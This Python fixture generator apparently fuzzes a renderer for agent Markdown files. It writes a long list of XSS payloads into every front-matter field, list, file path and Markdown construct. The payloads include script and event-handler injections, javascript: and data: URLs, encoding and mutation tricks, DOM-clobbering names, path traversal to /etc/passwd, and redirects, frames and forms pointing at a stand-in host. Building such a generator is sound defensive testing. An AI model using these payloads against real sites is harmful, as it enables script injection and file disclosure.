"""Files that try to run code in pages: XSS payloads in every field and every Markdown construct."""
import json

EVIL = "//evil.example"

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '"\u0338 onmouseover=alert(1) x="',
    ">\u0338<script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</pre></code><script>alert(1)</script>",
    "</main></body><script>alert(1)</script>", "<!--><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "javascript://%0aalert(1)", "\u0001\u001fjavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    "file:///etc/passwd", "blob:x", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https:/\u200bevil.example",
    "{{{rows}}}", "{{#rows}}x{{/rows}}", "{{>header}}", "{{<layout}}{{/layout}}", "${alert(1)}", "<%= 1 %>", "{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u202e<script>alert(1)</script>", "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<base href={EVIL}>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=preload as=image href={EVIL}/x>", f"<style>@import '{EVIL}/x.css'</style>", f"<iframe src={EVIL}></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', f"<object data={EVIL}></object>", f"<embed src={EVIL}>", f"<video src={EVIL} autoplay></video>",
    f"<form action={EVIL}><input name=q><button>go</button></form>", '<a href="javascript:alert(1)">x</a>', '<a href="data:text/html,x" download>x</a>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<input onfocus=alert(1) autofocus>",
    "<x id=page:main name=rosterFilter></x>", "<a id=rosterFilter></a><a id=rosterFilter name=words></a>", "<form id=page:filter></form>", "<img name=getElementById>",
    f'<div data-raw="{EVIL}">x</div>', "<button data-scheme-switch>x</button>", "<form data-filter data-words=9><input></form>",
    "constructor", "__proto__", "toString", "hasOwnProperty", "*/alert(1)/*", "`-alert(1)-`", '\\"-alert(1)//', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"url({EVIL}/x)", f"red;background:url({EVIL})", "expression(alert(1))", "#fff\"onclick=alert(1)", "../../../etc/passwd", "..\\..\\x", "con", "index", "a" * 3000,
]

FIELDS = ["name", "description", "model", "color", "category", "permissionMode", "memory", "version", "mode", "target", "argument-hint"]
LISTS = ["tools", "disallowedTools", "tags", "keywords", "triggers", "skills", "allowed-tools"]


def quoted(text):
    """A YAML string. JSON strings are valid YAML, except for characters that YAML forbids in files."""
    return json.dumps(text)


def agent(lines, body="Body.\n"):
    return "---\n" + "\n".join(lines) + "\n---\n\n" + body


CONSTRUCTS = [
    "# {p}", "## a {p} b {{#id .class}}", "{p}\n===", "[{p}](x.md)", "[a]({p})", "[a](<{p}>)", "[a](x.md '{p}')", '[a](https://example.org "{p}")', "![{p}](x.png)",
    "![a]({p})", "![a](<{p}> '{p}')", "[![{p}]({p})]({p})", "`{p}`", "``` {p}\ncode\n```", "```html\n{p}\n```", "    {p}", "| {p} | b |\n| --- | :-: |\n| {p} | {p} | {p} |",
    "<{p}>", "a {p} b", "{p}\nmore", "> {p}", "- {p}\n- [x] {p}\n1. {p}", "~~{p}~~ **{p}** _{p}_", "[ref]\n\n[ref]: {p} '{p}'", "[{p}]\n\n[{p}]: x", "[unused]: <{p}> ({p})",
    "note[^1]\n\n[^1]: {p}", "[^{p}]\n\n[^{p}]: x", "<!-- {p} -->", "<div title='{p}'>{p}</div>", "<div\n{p}>", "https://example.org/{p}", "www.example.org/{p}", "a@{p}.example",
    "\\{p}", "&{p};", "***\n{p}\n***", "$${p}$$", "[[{p}]]", "@import '{p}'", "[a](javascript&#58;alert(1) '{p}')", "[a](\u0001javascript:alert(1))",
]


def files():
    """Yields paths and their contents as bytes."""
    for number, payload in enumerate(PAYLOADS):
        for field in FIELDS:
            lines = [f"name: field-{field}-{number}", f"description: Case {number}."]
            lines = [line for line in lines if not line.startswith(field + ":")] + [f"{field}: {quoted(payload)}"]
            yield f"fields/{field}-{number}.md", agent(lines).encode("utf-8", "surrogatepass")
        lines = [f"name: lists-{number}", f"description: Case {number}."] + [f"{key}: [{quoted(payload)}, {quoted(payload + ' b')}]" for key in LISTS]
        lines += [f"{quoted(payload)}: {quoted(payload)}", f"nested: {{{quoted(payload)}: [{quoted(payload)}]}}"]
        yield f"lists/{number}.md", agent(lines).encode("utf-8", "surrogatepass")
        example = f"<example>\nContext: {payload}\nuser: '{payload}'\nassistant: '{payload}'\n<commentary>{payload}</commentary>\n</example>"
        text = quoted(f"{payload}. Use {payload}.\n\n- {payload}\n\n[{payload}]({payload})\n\n{example}")
        yield f"descriptions/{number}.md", agent([f"name: description-{number}", f"description: {text}"]).encode("utf-8", "surrogatepass")
        # Invalid YAML, which Roster recovers line by line.
        bare = payload.replace("\n", " ")
        yield f"broken/{number}.md", agent([f"name: broken-{number}", f"description: {bare}: {bare}", f"{bare}: x: y", "tools: [" + bare]).encode("utf-8", "surrogatepass")
        body = "\n\n".join(construct.replace("{p}", payload) for construct in CONSTRUCTS)
        yield f"bodies/{number}.md", agent([f"name: body-{number}", f"description: Case {number}."], body).encode("utf-8", "surrogatepass")
        name = "".join(sign for sign in payload if sign not in "/\0")[:60].encode("utf-8", "surrogatepass")[:200].decode("utf-8", "ignore")
        if name.strip(". "):
            yield f"paths/{name}/{number}.md", agent([f"description: Case {number}.", "model: opus"]).encode()
            yield f"paths/all/{name} {number}.md", agent([f"description: Case {number}.", "model: opus"]).encode()
            yield f"notes/{name} {number}.md", f"# {payload}\n\n{payload}\n".encode("utf-8", "surrogatepass")
    # Notes are published because they are beside an agent.
    yield "notes/agent.md", agent(["name: beside-notes", "description: Has notes beside it."]).encode()
    # Invalid and almost valid UTF-8.
    for number, noise in enumerate([b"\xff<script>alert(1)</script>", b"\xc0\xbcscript\xc0\xbealert(1)", b"\xe2\x80<script>", b"\xed\xa0\xbc<b>", b"\xf5\x80\x80\x80\"", b"\xc2\"onclick=alert(1)"]):
        yield f"bytes/{number}.md", b"---\nname: bytes-" + str(number).encode() + b"\ndescription: '" + noise + b"'\nmodel: '" + noise + b"'\n---\n\n# " + noise + b"\n\n[a](" + noise + b")\n"


def count():
    """The number of combinations of a place and a payload."""
    places = len(FIELDS) + len(LISTS) + 3 + 7 + 4 + sum(construct.count("{p}") for construct in CONSTRUCTS) + 4
    return places * len(PAYLOADS)
